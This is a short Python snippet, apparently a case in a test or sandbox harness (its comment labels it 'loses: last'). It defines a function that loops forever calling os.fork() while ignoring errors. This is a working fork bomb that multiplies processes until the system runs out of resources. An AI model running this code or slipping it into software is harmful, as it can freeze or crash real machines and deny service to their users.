# Processes that multiply as long as they can.
# loses: last

# %% last
def last():
    while True:
        with contextlib.suppress(OSError):
            os.fork()
